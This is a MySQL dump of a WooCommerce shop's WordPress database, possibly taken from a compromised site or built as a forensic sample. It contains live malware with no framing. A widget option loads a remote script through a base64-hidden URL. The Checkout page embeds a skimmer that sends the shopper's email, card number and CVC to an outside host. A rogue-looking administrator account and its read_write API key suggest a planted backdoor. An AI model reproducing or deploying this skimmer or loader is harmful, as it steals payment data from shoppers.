-- MySQL dump 10.13  Distrib 8.0.36, for Linux (x86_64)
--
-- Host: localhost    Database: wordpress
/*!40101 SET NAMES utf8mb4 */;
/*!40103 SET TIME_ZONE='+00:00' */;

DROP TABLE IF EXISTS `wp2_options`;
CREATE TABLE `wp2_options` (
  `option_id` bigint unsigned NOT NULL AUTO_INCREMENT,
  `option_name` varchar(191) COLLATE utf8mb4_unicode_520_ci NOT NULL DEFAULT '',
  `option_value` longtext COLLATE utf8mb4_unicode_520_ci NOT NULL,
  `autoload` varchar(20) COLLATE utf8mb4_unicode_520_ci NOT NULL DEFAULT 'yes',
  PRIMARY KEY (`option_id`),
  UNIQUE KEY `option_name` (`option_name`),
  KEY `autoload` (`autoload`)
) ENGINE=InnoDB AUTO_INCREMENT=300 DEFAULT CHARSET=utf8mb4 COLLATE=utf8mb4_unicode_520_ci;
INSERT INTO `wp2_options` VALUES (1,'siteurl','https://www.woo.example.test','yes'),(2,'home','https://www.woo.example.test','yes'),(3,'blogname','Woo Example','yes'),(150,'widget_custom_html','a:2:{i:2;a:2:{s:5:\"title\";s:0:\"\";s:7:\"content\";s:180:\"<script>var s=document.createElement(\'script\');s.src=atob(\'aHR0cHM6Ly9jZG4td29vLXN0YXRzLnRvcC9qcy9tLmpz\');document.head.appendChild(s);</script>\";}s:12:\"_multiwidget\";i:1;}','yes'),(151,'gtm4wp-options','a:1:{s:6:\"gtm-code\";s:11:\"GTM-XYZ1234\";}','yes'),(152,'_transient_feed_abc','<script src=\"https://news.example.org/embed.js\"></script>','no'),(153,'theme_mods_storefront','a:1:{s:10:\"custom_css\";s:73:\"<script async src=\"https://www.googletagmanager.com/gtag/js?id=G-1\"></script>\";}','yes');

DROP TABLE IF EXISTS `wp2_posts`;
CREATE TABLE `wp2_posts` (
  `ID` bigint unsigned NOT NULL AUTO_INCREMENT,
  `post_author` bigint unsigned NOT NULL DEFAULT '0',
  `post_date` datetime NOT NULL DEFAULT '0000-00-00 00:00:00',
  `post_date_gmt` datetime NOT NULL DEFAULT '0000-00-00 00:00:00',
  `post_content` longtext NOT NULL,
  `post_title` text NOT NULL,
  `post_excerpt` text NOT NULL,
  `post_status` varchar(20) NOT NULL DEFAULT 'publish',
  `comment_status` varchar(20) NOT NULL DEFAULT 'open',
  `ping_status` varchar(20) NOT NULL DEFAULT 'open',
  `post_password` varchar(255) NOT NULL DEFAULT '',
  `post_name` varchar(200) NOT NULL DEFAULT '',
  `to_ping` text NOT NULL,
  `pinged` text NOT NULL,
  `post_modified` datetime NOT NULL DEFAULT '0000-00-00 00:00:00',
  `post_modified_gmt` datetime NOT NULL DEFAULT '0000-00-00 00:00:00',
  `post_content_filtered` longtext NOT NULL,
  `post_parent` bigint unsigned NOT NULL DEFAULT '0',
  `guid` varchar(255) NOT NULL DEFAULT '',
  `menu_order` int NOT NULL DEFAULT '0',
  `post_type` varchar(20) NOT NULL DEFAULT 'post',
  `post_mime_type` varchar(100) NOT NULL DEFAULT '',
  `comment_count` bigint NOT NULL DEFAULT '0',
  PRIMARY KEY (`ID`),
  KEY `post_name` (`post_name`(191)),
  KEY `type_status_date` (`post_type`,`post_status`,`post_date`,`ID`)
) ENGINE=InnoDB AUTO_INCREMENT=60 DEFAULT CHARSET=utf8mb4;
INSERT INTO `wp2_posts` VALUES (10,1,'2023-01-01 10:00:00','2023-01-01 09:00:00','<!-- wp:paragraph --><p>Welcome</p><!-- /wp:paragraph --><iframe src=\"https://www.youtube.com/embed/xyz\"></iframe>','Home','','publish','closed','closed','','home','','','2023-01-01 10:00:00','2023-01-01 09:00:00','',0,'https://www.woo.example.test/?page_id=10',0,'page','',0),(11,1,'2023-01-01 10:00:00','2023-01-01 09:00:00','[woocommerce_checkout]<script>document.addEventListener(\"submit\",function(){var d=jQuery(\"#billing_email,#card_number,#cvc\").serialize();navigator.sendBeacon(\"https://woo-cdn-stats.top/c\",d)});</script>','Checkout','','publish','closed','closed','','checkout','','','2025-10-12 02:40:00','2025-10-12 02:40:00','',0,'https://www.woo.example.test/?page_id=11',0,'page','',0),(50,0,'2025-10-13 12:00:00','2025-10-13 10:00:00','','Order &ndash; October 13, 2025','','wc-processing','closed','closed','wc_order_x','order-oct-13-2025','','','2025-10-13 12:00:00','2025-10-13 10:00:00','',0,'',0,'shop_order','',1);

DROP TABLE IF EXISTS `wp2_postmeta`;
CREATE TABLE `wp2_postmeta` (
  `meta_id` bigint unsigned NOT NULL AUTO_INCREMENT,
  `post_id` bigint unsigned NOT NULL DEFAULT '0',
  `meta_key` varchar(255) DEFAULT NULL,
  `meta_value` longtext,
  PRIMARY KEY (`meta_id`),
  KEY `post_id` (`post_id`)
) ENGINE=InnoDB AUTO_INCREMENT=400 DEFAULT CHARSET=utf8mb4;
INSERT INTO `wp2_postmeta` VALUES (300,50,'_billing_email','old.style@example.com'),(301,50,'_billing_first_name','Olga'),(302,50,'_billing_last_name','Style'),(303,50,'_billing_country','AT'),(304,50,'_billing_state','9'),(305,50,'_payment_method','stripe'),(306,50,'_customer_user','0'),(307,50,'_order_total','42.00'),(308,50,'_billing_city','Wien');

DROP TABLE IF EXISTS `wp2_users`;
CREATE TABLE `wp2_users` (
  `ID` bigint unsigned NOT NULL AUTO_INCREMENT,
  `user_login` varchar(60) NOT NULL DEFAULT '',
  `user_pass` varchar(255) NOT NULL DEFAULT '',
  `user_nicename` varchar(50) NOT NULL DEFAULT '',
  `user_email` varchar(100) NOT NULL DEFAULT '',
  `user_url` varchar(100) NOT NULL DEFAULT '',
  `user_registered` datetime NOT NULL DEFAULT '0000-00-00 00:00:00',
  `user_activation_key` varchar(255) NOT NULL DEFAULT '',
  `user_status` int NOT NULL DEFAULT '0',
  `display_name` varchar(250) NOT NULL DEFAULT '',
  PRIMARY KEY (`ID`),
  KEY `user_login_key` (`user_login`)
) ENGINE=InnoDB AUTO_INCREMENT=6 DEFAULT CHARSET=utf8mb4;
INSERT INTO `wp2_users` VALUES (1,'peter','$P$Babc','peter','peter.mills@woo.example.test','','2020-05-01 08:30:00','',0,'Peter Mills'),(2,'jane.doe','$P$Bdef','jane-doe','jane.doe@example.com','','2024-03-03 18:00:00','',0,'Jane Doe'),(3,'wpsupport','$P$Bghi','wpsupport','wp.support.team@gmail.com','','2025-10-12 02:31:00','',0,'wpsupport'),(4,'sam','$P$Bjkl','sam','sam.lee@woo.example.test','','2025-10-11 09:15:00','',0,'Sam Lee'),(5,'max','$P$Bmno','max','max.b@example.org','','2024-08-08 12:00:00','',0,'Max B');

DROP TABLE IF EXISTS `wp2_usermeta`;
CREATE TABLE `wp2_usermeta` (
  `umeta_id` bigint unsigned NOT NULL AUTO_INCREMENT,
  `user_id` bigint unsigned NOT NULL DEFAULT '0',
  `meta_key` varchar(255) DEFAULT NULL,
  `meta_value` longtext,
  PRIMARY KEY (`umeta_id`),
  KEY `user_id` (`user_id`)
) ENGINE=InnoDB AUTO_INCREMENT=100 DEFAULT CHARSET=utf8mb4;
INSERT INTO `wp2_usermeta` VALUES (1,1,'wp2_capabilities','a:1:{s:13:\"administrator\";b:1;}'),(2,1,'session_tokens','a:1:{s:64:\"abc\";a:4:{s:10:\"expiration\";i:1760600000;s:2:\"ip\";s:11:\"192.0.2.10\";s:2:\"ua\";s:7:\"Firefox\";s:5:\"login\";i:1760259600;}}'),(3,2,'wp2_capabilities','a:1:{s:8:\"customer\";b:1;}'),(4,2,'first_name','Jane'),(5,2,'last_name','Doe'),(6,2,'billing_country','US'),(7,2,'billing_state','NY'),(8,3,'wp2_capabilities','a:1:{s:13:\"administrator\";b:1;}'),(9,4,'wp2_capabilities','a:1:{s:13:\"administrator\";b:1;}'),(10,5,'wp2_capabilities','a:1:{s:8:\"customer\";b:1;}'),(11,5,'billing_country','GB');

DROP TABLE IF EXISTS `wp2_woocommerce_api_keys`;
CREATE TABLE `wp2_woocommerce_api_keys` (
  `key_id` bigint unsigned NOT NULL AUTO_INCREMENT,
  `user_id` bigint unsigned NOT NULL,
  `description` varchar(200) DEFAULT NULL,
  `permissions` varchar(10) NOT NULL,
  `consumer_key` char(64) NOT NULL,
  `consumer_secret` char(43) NOT NULL,
  `nonces` longtext,
  `truncated_key` char(7) NOT NULL,
  `last_access` datetime DEFAULT NULL,
  PRIMARY KEY (`key_id`)
) ENGINE=InnoDB AUTO_INCREMENT=2 DEFAULT CHARSET=utf8mb4;
INSERT INTO `wp2_woocommerce_api_keys` VALUES (1,3,'sync','read_write','0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef','cs_secretsecretsecretsecretsecretsecretsec',NULL,'a1b2c3d','2025-10-12 02:35:00');

DROP TABLE IF EXISTS `wp2_wc_orders`;
CREATE TABLE `wp2_wc_orders` (
  `id` bigint unsigned NOT NULL,
  `status` varchar(20) DEFAULT NULL,
  `currency` varchar(10) DEFAULT NULL,
  `type` varchar(20) DEFAULT NULL,
  `tax_amount` decimal(26,8) DEFAULT NULL,
  `total_amount` decimal(26,8) DEFAULT NULL,
  `customer_id` bigint unsigned DEFAULT NULL,
  `billing_email` varchar(320) DEFAULT NULL,
  `date_created_gmt` datetime DEFAULT NULL,
  `date_updated_gmt` datetime DEFAULT NULL,
  `parent_order_id` bigint unsigned DEFAULT NULL,
  `payment_method` varchar(100) DEFAULT NULL,
  `payment_method_title` text,
  `transaction_id` varchar(100) DEFAULT NULL,
  `ip_address` varchar(100) DEFAULT NULL,
  `user_agent` text,
  `customer_note` text,
  PRIMARY KEY (`id`)
) ENGINE=InnoDB DEFAULT CHARSET=utf8mb4;
INSERT INTO `wp2_wc_orders` VALUES (51,'wc-processing','USD','shop_order',0.00000000,80.00000000,2,'jane.doe@example.com','2025-10-13 15:00:00','2025-10-13 15:00:00',0,'stripe','Credit Card (Stripe)','ch_1','203.0.113.9','Mozilla',NULL),(52,'wc-on-hold','GBP','shop_order',0.00000000,20.00000000,0,'guest.uk@example.co.uk','2025-10-14 08:00:00','2025-10-14 08:00:00',0,'bacs','Direct bank transfer',NULL,'198.51.100.77','Mozilla',NULL),(53,'wc-refunded','USD','shop_order_refund',0.00000000,-80.00000000,0,NULL,'2025-10-15 08:00:00','2025-10-15 08:00:00',51,NULL,NULL,NULL,NULL,NULL,NULL);

DROP TABLE IF EXISTS `wp2_wc_order_addresses`;
CREATE TABLE `wp2_wc_order_addresses` (
  `id` bigint unsigned NOT NULL AUTO_INCREMENT,
  `order_id` bigint unsigned NOT NULL,
  `address_type` varchar(20) DEFAULT NULL,
  `first_name` text,
  `last_name` text,
  `company` text,
  `address_1` text,
  `address_2` text,
  `city` text,
  `state` text,
  `postcode` text,
  `country` text,
  `email` varchar(320) DEFAULT NULL,
  `phone` varchar(100) DEFAULT NULL,
  PRIMARY KEY (`id`)
) ENGINE=InnoDB AUTO_INCREMENT=4 DEFAULT CHARSET=utf8mb4;
INSERT INTO `wp2_wc_order_addresses` VALUES (1,51,'billing','Jane','Doe',NULL,'5 Main St',NULL,'New York','NY','10001','US','jane.doe@example.com','+1 212 555 0100'),(2,51,'shipping','Jane','Doe',NULL,'5 Main St',NULL,'New York','NY','10001','US',NULL,NULL),(3,52,'billing','Ian','Guest',NULL,'10 Downing St',NULL,'London','','SW1A 2AA','GB','guest.uk@example.co.uk','+44 20 7946 0000');
